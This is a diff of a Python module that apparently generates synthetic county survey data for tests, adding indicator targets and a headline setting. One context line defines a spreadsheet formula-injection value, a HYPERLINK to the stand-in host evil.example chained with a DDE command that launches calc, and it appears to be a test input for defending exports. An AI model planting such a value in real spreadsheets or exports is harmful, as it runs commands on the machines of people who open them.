@@ -1,6 +1,7 @@
 """Waves that look like those of a county: what people say, where they live, how they were drawn."""
 
 import random
+from dataclasses import replace
 from datetime import timedelta
 from importlib.resources import files
 
@@ -28,8 +29,11 @@ BY_HAND = "=HYPERLINK(\"http://evil.example\",A1)+cmd|'/C calc'!A0"
 
 
 def questionnaire() -> Questionnaire:
-    """The library's questionnaire."""
-    return native.parse(files("surveys").joinpath("library", "civility.toml").read_text("utf-8"))
+    """The library's questionnaire, with targets."""
+    made = native.parse(files("surveys").joinpath("library", "civility.toml").read_text("utf-8"))
+    targets = {"awareness": 0.7, "support": 0.75, "satisfaction": 0.95}
+    aimed = tuple(replace(one, target=targets.get(one.id)) for one in made.indicators)
+    return replace(made, indicators=aimed)
 
 
 def answers(chance: random.Random, asked: Questionnaire, lean: float) -> dict[str, Answer]:
@@ -64,6 +68,7 @@ async def sampled(
         frame=FRAME,
         margins=MARGINS if weighted else {},
         exclusions=("outside",),
+        headline=("chat", "page"),
         header=Header(number="县文明1号", authority="县精神文明建设办公室", approval="县统字〔2027〕3号"),
     )
     async with database.transaction() as conn:
